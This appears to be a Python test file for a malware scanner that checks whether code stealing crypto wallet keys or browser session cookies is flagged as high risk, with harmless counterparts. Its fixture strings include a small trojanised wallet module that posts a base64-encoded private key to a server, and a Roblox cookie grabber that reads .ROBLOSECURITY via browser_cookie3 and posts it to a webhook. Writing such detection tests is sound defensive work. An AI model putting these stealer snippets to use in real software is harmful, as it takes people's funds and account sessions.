"""Round 13's recall classes: malware shapes that a fresh address or an innocent name hid.

Each came from rewriting the labelled samples (every bare IP, then every host, replaced by a
fresh domain) and seeing which dropped below high: a stealer's verdict must come from what its
code does, not from an address a campaign will change. Each has a harmless counterpart that
must stay below high. Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder


def _threats(result) -> list[tuple[str, str]]:
    return [(t.id, t.severity) for t in result.threats]


# ---------------------------------------------------------------- a wallet key by its use
# A trojanised "validator" takes ``validate_key``, turns it into an account with
# ``Account.from_key`` / ``Keypair.from_base58_string`` and posts it (base64) to its server:
# the key is a wallet secret by what the code does with it, whatever the parameter is called.
# A wallet library that turns the key into an account, signs and sends only the signed
# transaction sends nothing of the key.
def _wallet_module(param: str, sent: str) -> str:
    return (
        "import base64, requests\nfrom eth_account import Account\n\n\n"
        f"def submit({param}, tx, rpc_url):\n"
        f"    acct = Account.from_key({param})\n"
        "    signed = acct.sign_transaction(tx)\n"
        f"    return requests.post(rpc_url, json={{'params': [{sent}]}})\n"
    )


def test_a_key_turned_into_an_account_and_sent_is_a_wallet_secret_whatever_its_name(tmp_path):
    for i, param in enumerate(("validate_key", "private_key")):
        sent = f"base64.b64encode({param}.encode()).decode()"
        files = {"pkg/__init__.py": _wallet_module(param, sent)}
        result = scan(files, subfolder(tmp_path, str(i)))
        assert_high_with(f"wallet key {param}", result, {"chain.exfiltration"})
        assert any(f.rule == "py.net_send_wallet_secret" for f in result.findings), param


def test_a_signed_transaction_sent_to_a_node_carries_no_key(tmp_path):
    for i, param in enumerate(("validate_key", "private_key")):
        files = {"pkg/__init__.py": _wallet_module(param, "signed.raw_transaction.hex()")}
        result = scan(files, subfolder(tmp_path, str(i)))
        assert result.risk.level not in HIGH, (param, _threats(result))
        assert not [f for f in result.findings if f.rule.startswith("py.net_send")], param


# ---------------------------------------------------------------- a browser cookie library
# browser_cookie3 (rookiepy, pycookiecheat) hands back a browser's decrypted session cookies:
# a Roblox cookie grabber reads them and posts them to a webhook it fetched.
COOKIE_GRABBER = (
    "try:\n    import requests, browser_cookie3\nexcept Exception:\n    pass\n\n\n"
    "class Grabber:\n    def browsers(self, hook):\n"
    "        for cookie in browser_cookie3.firefox(domain_name='roblox.com'):\n"
    "            if cookie.name == '.ROBLOSECURITY':\n"
    "                requests.post(hook, data={'c': cookie.value})\n"
)


def test_cookies_read_with_a_browser_cookie_library_and_posted_are_exfiltration(tmp_path):
    result = scan({"pkg/__init__.py": COOKIE_GRABBER}, tmp_path)
    assert_high_with("cookie grabber", result, {"chain.exfiltration"})
    reads = [f for f in result.findings if f.rule == "py.browser_cookies"]
    assert reads and reads[0].capability == "cred.browser_data", result.findings


def test_a_module_naming_browsers_without_the_cookie_libraries_reads_no_cookies(tmp_path):
    # webbrowser.get('firefox') opens a page; a config's .chrome() method reads nothing
    source = (
        "import webbrowser\n\n\ndef show(url, settings):\n"
        "    webbrowser.get('firefox').open(url)\n    return settings.chrome()\n"
    )
    result = scan({"pkg/__init__.py": source}, tmp_path)
    assert not [f for f in result.findings if f.capability == "cred.browser_data"], result.findings
    assert result.risk.level not in HIGH, _threats(result)
